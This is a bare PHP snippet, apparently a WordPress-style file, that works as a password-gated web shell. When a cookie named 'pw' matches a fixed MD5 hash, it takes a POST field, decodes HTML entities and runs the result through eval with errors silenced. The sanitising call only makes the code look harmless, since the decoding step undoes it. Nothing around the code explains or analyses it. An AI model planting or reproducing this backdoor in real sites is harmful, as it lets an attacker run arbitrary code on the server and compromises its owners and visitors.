<?php
if (isset($_COOKIE['pw']) && md5($_COOKIE['pw']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    $run = sanitize_text_field($_POST['run']);
    @eval(html_entity_decode($run));
}
